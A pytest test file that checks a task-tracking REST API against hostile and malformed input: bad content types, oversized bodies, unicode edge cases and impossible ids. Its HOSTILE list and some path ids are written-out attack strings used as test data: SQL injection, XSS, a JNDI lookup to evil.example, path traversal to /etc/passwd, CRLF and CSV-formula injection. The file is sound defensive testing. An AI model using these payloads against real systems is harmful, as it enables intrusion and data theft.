"""Hostile and malformed input on every REST v1 operation that takes one: wrong content types,
oversized bodies, unicode edge cases, SQL and script fragments in every string field and
filter, and impossible ids in every path that names a task.

The rule everywhere: a documented 4xx `application/problem+json`, or the input stored and
returned unchanged as JSON; never a 5xx (the test client re-raises server errors). Runs on
SQLite and PostgreSQL.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import text

from api.problems import PROBLEM_MEDIA_TYPE
from tasks.service import clean_tags
from tests.api.support import ApiHarness, assert_problem, auth, create_task

TASKS = "/api/v1/tasks"
TURNS = "/api/v1/agent/turns"
JSON = "application/json"
MAX_BODY_BYTES = 1_048_576  # TASKPILOT_MAX_BODY_BYTES' default


def _send(
    api: ApiHarness, key: str, method: str, path: str, body: Any, *, ascii_only: bool = True
) -> Any:
    """`body` as JSON: escaped to ASCII (`\\ud800` can only be sent so), or as raw UTF-8."""
    content = json.dumps(body, ensure_ascii=ascii_only).encode()
    return api.client.request(
        method, path, content=content, headers={**auth(key), "Content-Type": JSON}
    )


def _assert_json(response: Any) -> None:
    """A JSON answer (data or problem), never a page a browser would render."""
    assert response.headers["content-type"] in (JSON, PROBLEM_MEDIA_TYPE), response.headers
    assert "text/html" not in response.headers["content-type"]
    response.json()


def _tasks_table_rows(api: ApiHarness) -> int:
    with api.session_factory() as session:
        return int(session.execute(text("SELECT count(*) FROM tasks")).scalar_one())


# --- Content types ---------------------------------------------------------------------------

# Every operation with a request body: (method, path template, a valid body).
BODY_OPERATIONS: list[tuple[str, str, dict[str, Any]]] = [
    ("POST", TASKS, {"title": "By content type"}),
    ("PATCH", TASKS + "/{id}", {"title": "Patched by content type"}),
    ("POST", TASKS + "/{id}/assign", {"assignee": "U0BOB"}),
    ("POST", TURNS, {"user": "U0ALICE", "text": "what are my tasks"}),
]
BODY_IDS = ["create", "update", "assign", "agent-turn"]


def _form(body: dict[str, Any]) -> bytes:
    return "&".join(f"{name}={value}" for name, value in body.items()).encode()


def _multipart(body: dict[str, Any]) -> bytes:
    parts = [
        f'--XyZ\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in body.items()
    ]
    return ("".join(parts) + "--XyZ--\r\n").encode()


# (Content-Type or None, how the valid body is encoded under it)
WRONG_CONTENT_TYPES: list[tuple[str | None, Any]] = [
    ("text/plain", lambda body: json.dumps(body).encode()),
    ("text/plain; charset=utf-8", lambda body: json.dumps(body).encode()),
    ("application/x-www-form-urlencoded", _form),
    ("multipart/form-data; boundary=XyZ", _multipart),
    ("application/xml", lambda body: b"<task><title>x</title></task>"),
    ("text/html", lambda body: b"<script>alert(1)</script>"),
    ("application/octet-stream", lambda body: json.dumps(body).encode()),
    (None, lambda body: json.dumps(body).encode()),
]
WRONG_IDS = ["text", "text-charset", "form", "multipart", "xml", "html", "octet-stream", "none"]


@pytest.mark.parametrize(("content_type", "encode"), WRONG_CONTENT_TYPES, ids=WRONG_IDS)
@pytest.mark.parametrize(("method", "template", "body"), BODY_OPERATIONS, ids=BODY_IDS)
def test_a_body_that_is_not_json_is_a_422_problem_and_changes_nothing(
    api: ApiHarness,
    key: str,
    method: str,
    template: str,
    body: dict[str, Any],
    content_type: str | None,
    encode: Any,
) -> None:
    task = create_task(api, key, title="Before")
    headers = auth(key)
    if content_type is not None:
        headers["Content-Type"] = content_type
    response = api.client.request(
        method, template.format(id=task["id"]), content=encode(body), headers=headers
    )
    problem = assert_problem(response, 422)
    # The refusal names the body without echoing it.
    assert all(error["location"] == "body" for error in problem["errors"]), problem
    assert "alert(1)" not in response.text
    (row,) = api.tasks_of()
    assert (row.title, row.assignee_id) == ("Before", None)


@pytest.mark.parametrize(
    "content_type",
    ["application/json; charset=utf-8", "application/json;charset=UTF-8", "Application/JSON"],
)
@pytest.mark.parametrize(("method", "template", "body"), BODY_OPERATIONS, ids=BODY_IDS)
def test_json_with_parameters_or_another_case_is_still_json(
    api: ApiHarness,
    key: str,
    method: str,
    template: str,
    body: dict[str, Any],
    content_type: str,
) -> None:
    task = create_task(api, key)
    response = api.client.request(
        method,
        template.format(id=task["id"]),
        content=json.dumps(body).encode(),
        headers={**auth(key), "Content-Type": content_type},
    )
    assert response.status_code in (200, 201), response.text
    assert response.headers["content-type"] == JSON


def test_the_status_every_body_refusal_uses_is_documented(api: ApiHarness) -> None:
    # A non-JSON body is refused with 422 (not 415): the document must say so.
    document = api.client.get("/openapi.json").json()
    for method, template, _ in BODY_OPERATIONS:
        path = template.replace("{id}", "{task_id}")
        responses = document["paths"][path][method.lower()]["responses"]
        assert "422" in responses, (method, path)
        assert list(responses["422"]["content"]) == [PROBLEM_MEDIA_TYPE]


# --- Oversized bodies ------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "template", "body"), BODY_OPERATIONS, ids=BODY_IDS)
@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
def test_a_body_past_the_limit_is_a_413_problem_and_changes_nothing(
    api: ApiHarness,
    key: str,
    method: str,
    template: str,
    body: dict[str, Any],
    chunked: bool,
) -> None:
    task = create_task(api, key, title="Before")
    # Valid JSON: only the size is wrong (and one field, too long, that is never read).
    padded = {**body, "description" if "title" in body else "text": "x" * (MAX_BODY_BYTES + 10)}
    content = json.dumps(padded).encode()
    payload: Any = content
    if chunked:

        def chunks() -> Iterator[bytes]:
            for start in range(0, len(content), 65_536):
                yield content[start : start + 65_536]

        payload = chunks()
    response = api.client.request(
        method,
        template.format(id=task["id"]),
        content=payload,
        headers={**auth(key), "Content-Type": JSON},
    )
    assert ("content-length" not in response.request.headers) is chunked
    assert_problem(response, 413)
    (row,) = api.tasks_of()
    assert (row.title, row.description, row.assignee_id) == ("Before", None, None)


def test_a_body_just_under_the_limit_is_judged_by_its_fields(api: ApiHarness, key: str) -> None:
    body = {"title": "Long", "description": "x" * (MAX_BODY_BYTES - 100)}
    response = _send(api, key, "POST", TASKS, body)
    problem = assert_problem(response, 422)
    assert [error["field"] for error in problem["errors"]] == ["description"]
    assert api.tasks_of() == []


# --- Unicode edge cases ----------------------------------------------------------------------

UNICODE: dict[str, str] = {
    "rtl-override": "abc\u202edcba\u202c",
    "arabic": "مرحبا بالعالم",
    "hebrew-mixed": "שלום world 123",
    "emoji": "🎉🚀",
    "zwj-family": "👩\u200d👩\u200d👧\u200d👦",
    "flag": "🇺🇦",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e",
    "bom": "\ufeffbom",
    "combining": "e\u0301 a\u0308 Z\u0334\u0321\u0349a\u0336l\u0337g\u0338o\u0334",
    "astral": "𝕏𝔂𝖟 \U0010fffd",
    "nonchar": "\ufdd0\ufffe\uffff",
    "ligature-case": "ﬀ ẞ İ ǅ",
    "control": "tab\there\x01\x1f\x7f",
    "line-separators": "a\u2028b\u2029c\r\nd",
    "lone-high-surrogate": "a\ud800b",
    "lone-low-surrogate": "\udfffz",
    "nul": "a\x00b",
}

# Every string field of every body: (method, path template, the rest of a valid body, field).
STRING_FIELDS: list[tuple[str, str, dict[str, Any], str]] = [
    ("POST", TASKS, {}, "title"),
    ("POST", TASKS, {"title": "t"}, "description"),
    ("POST", TASKS, {"title": "t"}, "assignee"),
    ("POST", TASKS, {"title": "t"}, "due"),
    ("POST", TASKS, {"title": "t"}, "timezone"),
    ("POST", TASKS, {"title": "t"}, "tags"),
    ("PATCH", TASKS + "/{id}", {}, "title"),
    ("PATCH", TASKS + "/{id}", {}, "description"),
    ("PATCH", TASKS + "/{id}", {}, "due"),
    ("PATCH", TASKS + "/{id}", {"title": "t"}, "timezone"),
    ("PATCH", TASKS + "/{id}", {}, "tags"),
    ("POST", TASKS + "/{id}/assign", {}, "assignee"),
    ("POST", TURNS, {"user": "U0ALICE"}, "text"),
    ("POST", TURNS, {"text": "what are my tasks"}, "user"),
    ("POST", TURNS, {"user": "U0ALICE", "text": "what are my tasks"}, "conversation_id"),
]
# Fields stored as sent (title: trimmed; tags: trimmed, lower case, without a leading '#').
STORED_FIELDS = {"title", "description", "tags"}


def _expected(field: str, value: str) -> Any:
    if field == "tags":
        return clean_tags([value])
    if field == "title":
        return value.strip()
    return value


def _accepted_or_refused(
    api: ApiHarness,
    key: str,
    value: str,
    *,
    ascii_only: bool = True,
) -> list[tuple[str, str, int]]:
    """Sends `value` in every string field; checks each answer; returns what happened."""
    outcomes: list[tuple[str, str, int]] = []
    for method, template, rest, field in STRING_FIELDS:
        task = create_task(api, key)
        sent: Any = [value] if field == "tags" else value
        response = _send(
            api,
            key,
            method,
            template.format(id=task["id"]),
            {**rest, field: sent},
            ascii_only=ascii_only,
        )
        where = f"{method} {template} {field}"
        _assert_json(response)
        if response.status_code == 422:
            assert_problem(response, 422)
            assert value not in response.text, f"{where}: the refusal echoes the input"
        else:
            assert response.status_code in (200, 201), (where, response.text)
            if field in STORED_FIELDS and template != TURNS:
                returned = response.json()[field]
                assert returned == _expected(field, value), where
                again = api.client.get(f"{TASKS}/{response.json()['id']}", headers=auth(key))
                assert again.json()[field] == returned, where
        outcomes.append((method, field, response.status_code))
    return outcomes


def _wrapped(value: str) -> str:
    # Inside visible characters, so that trimming cannot change what is compared.
    return f"«{value}»"


@pytest.mark.parametrize("value", list(UNICODE.values()), ids=list(UNICODE))
def test_unicode_in_every_string_field_is_kept_or_refused_cleanly(
    api: ApiHarness, key: str, value: str
) -> None:
    outcomes = _accepted_or_refused(api, key, _wrapped(value))
    stored = {(method, field) for method, field, status in outcomes if status != 422}
    if "\x00" in value or any(0xD800 <= ord(char) <= 0xDFFF for char in value):
        # NUL and lone surrogates cannot be stored (PostgreSQL text, UTF-8): always refused.
        assert stored == set(), outcomes
    else:
        # Text fields take any other character.
        assert {("POST", "title"), ("POST", "description"), ("PATCH", "title")} <= stored


@pytest.mark.parametrize(
    "value",
    [value for name, value in UNICODE.items() if "surrogate" not in name],
    ids=[name for name in UNICODE if "surrogate" not in name],
)
def test_unicode_sent_as_raw_utf8_is_the_same_as_escaped(
    api: ApiHarness, key: str, value: str
) -> None:
    _accepted_or_refused(api, key, _wrapped(value), ascii_only=False)


@pytest.mark.parametrize(
    ("raw", "status"),
    [
        (b'{"title": "\xff\xfe"}', 400),
        (b'{"title": "\xc3"}', 400),
        (b'{"title": "\xed\xa0\x80"}', 422),
    ],
    ids=["latin1-bytes", "truncated-utf8", "utf8-encoded-surrogate"],
)
def test_a_body_that_is_not_utf8_is_a_4xx(
    api: ApiHarness, key: str, raw: bytes, status: int
) -> None:
    # Bytes that are no JSON text at all are a malformed request (400); a surrogate encoded
    # as UTF-8 bytes decodes, but is no string (422 on the field).
    response = api.client.post(TASKS, content=raw, headers={**auth(key), "Content-Type": JSON})
    assert_problem(response, status)
    assert api.tasks_of() == []


# --- SQL and script fragments ----------------------------------------------------------------

HOSTILE: dict[str, str] = {
    "sql-drop": "'; DROP TABLE tasks;--",
    "sql-or": "' OR '1'='1",
    "sql-union": "1 UNION SELECT * FROM api_keys--",
    "sql-like": "%_\\%",
    "script": "<script>alert(1)</script>",
    "img-onerror": '"><img src=x onerror=alert(1)>',
    "percent-nul": "%00",
    "jndi": "${jndi:ldap://evil.example/a}",
    "template": "{{7*7}} #{7*7} <%= 7*7 %>",
    "path": "../../etc/passwd",
    "crlf": "x\r\nSet-Cookie: a=b",
    "csv-formula": '=HYPERLINK("http://evil.example")',
}


@pytest.mark.parametrize("value", list(HOSTILE.values()), ids=list(HOSTILE))
def test_sql_and_script_fragments_in_every_string_field_are_data(
    api: ApiHarness, key: str, value: str
) -> None:
    outcomes = _accepted_or_refused(api, key, value)
    stored = {(method, field) for method, field, status in outcomes if status != 422}
    assert {("POST", "title"), ("POST", "description"), ("PATCH", "description")} <= stored
    assert {("POST", "text")} <= stored  # an agent turn reads any text
    # Nothing was dropped or rewritten: one row per task made, the last title as sent.
    assert _tasks_table_rows(api) == len(api.tasks_of()) >= len(STRING_FIELDS)
    made = create_task(api, key, title=value, description=value, tags=[value])
    listed = api.client.get(TASKS, params={"limit": 100}, headers=auth(key))
    _assert_json(listed)
    assert made in listed.json()["items"]
    assert made["title"] == value.strip() and made["description"] == value


@pytest.mark.parametrize("value", list(HOSTILE.values()), ids=list(HOSTILE))
def test_fragments_in_the_text_filters_match_literally(
    api: ApiHarness, key: str, value: str
) -> None:
    target = create_task(api, key, title=f"before {value} after", tags=[value])
    create_task(api, key, title="an innocent task", tags=["innocent"])
    found = api.client.get(TASKS, params={"q": value}, headers=auth(key))
    _assert_json(found)
    assert [item["id"] for item in found.json()["items"]] == [target["id"]]
    tagged = api.client.get(TASKS, params={"tag": value}, headers=auth(key))
    _assert_json(tagged)
    assert [item["id"] for item in tagged.json()["items"]] == [target["id"]]
    assert len(api.tasks_of()) == _tasks_table_rows(api) == 2


@pytest.mark.parametrize("value", list(HOSTILE.values()), ids=list(HOSTILE))
def test_fragments_in_the_pattern_filters_are_422(api: ApiHarness, key: str, value: str) -> None:
    create_task(api, key)
    for name in ("assignee", "creator", "cursor"):
        response = api.client.get(TASKS, params={name: value}, headers=auth(key))
        problem = assert_problem(response, 422)
        assert [(error["location"], error["field"]) for error in problem["errors"]] == [
            ("query", name)
        ]
        assert value not in response.text, name
    assert _tasks_table_rows(api) == 1


@pytest.mark.parametrize("name", ["q", "tag", "assignee", "creator", "cursor"])
def test_a_percent_encoded_nul_in_a_filter_is_a_422(api: ApiHarness, key: str, name: str) -> None:
    # `?q=%00` decodes to NUL (PostgreSQL cannot compare it); `%2500` is the text "%00".
    assert_problem(api.client.get(f"{TASKS}?{name}=a%00", headers=auth(key)), 422)


@pytest.mark.parametrize(
    "cursor",
    ["0", "1", "zzzzzzzzzzz", "ZZZZZZZZZZZ", "2LKcb1", "2LKcb2", "AzL8n0Y58m7", "AzL8n0Y58m8"],
)
def test_every_cursor_the_pattern_admits_pages_without_a_server_error(
    api: ApiHarness, key: str, cursor: str
) -> None:
    # Cursors naming numbers past the 32-bit column (2**31 is "2LKcb2", 2**63 "AzL8n0Y58m8")
    # and past 2**63 must give an empty page, not a database error.
    task = create_task(api, key)
    response = api.client.get(TASKS, params={"cursor": cursor}, headers=auth(key))
    assert response.status_code == 200, response.text
    items = [item["id"] for item in response.json()["items"]]
    assert items in ([], [task["id"]])


# --- Impossible ids --------------------------------------------------------------------------

BAD_IDS: list[str] = [
    "-1",
    "0",
    str(2**31),
    str(2**63),
    str(2**64),
    str(10**30),
    "-" + str(2**63),
    "1e3",
    "1.5",
    "abc",
    "0x10",
    "١",  # an Arabic-Indic digit one
    "%00",
    "1%20OR%201=1",
    "1;DROP%20TABLE%20tasks",
    "%F0%9F%8E%89",
]

# Every operation with a task id in its path: (method, path template, a valid body or None).
ID_OPERATIONS: list[tuple[str, str, dict[str, Any] | None]] = [
    ("GET", TASKS + "/{id}", None),
    ("PATCH", TASKS + "/{id}", {"title": "Changed"}),
    ("DELETE", TASKS + "/{id}", None),
    ("POST", TASKS + "/{id}/assign", {"assignee": "U0BOB"}),
]


@pytest.mark.parametrize("bad", BAD_IDS)
def test_an_impossible_id_in_every_path_is_a_422_problem(
    api: ApiHarness, key: str, bad: str
) -> None:
    task = create_task(api, key, title="Untouched")
    for method, template, body in ID_OPERATIONS:
        response = api.client.request(method, template.format(id=bad), json=body, headers=auth(key))
        problem = assert_problem(response, 422)
        assert [(e["location"], e["field"]) for e in problem["errors"]] == [("path", "task_id")]
    (row,) = api.tasks_of()
    assert (row.number, row.title, row.assignee_id) == (task["id"], "Untouched", None)


@pytest.mark.parametrize("missing", ["2", "999", str(2**31 - 1)])
def test_a_possible_but_unknown_id_in_every_path_is_a_404_problem(
    api: ApiHarness, key: str, missing: str
) -> None:
    create_task(api, key)
    for method, template, body in ID_OPERATIONS:
        response = api.client.request(
            method, template.format(id=missing), json=body, headers=auth(key)
        )
        assert_problem(response, 404)
    assert len(api.tasks_of()) == 1


@pytest.mark.parametrize("bad", ["-1", "0", str(2**31), str(2**63), str(10**30), "1e3", "abc"])
def test_an_impossible_task_filter_on_the_audit_log_is_a_422(api: ApiHarness, bad: str) -> None:
    auditor = api.key(scopes=["audit:read"])
    response = api.client.get("/api/v1/audit", params={"task": bad}, headers=auth(auditor))
    assert_problem(response, 422)
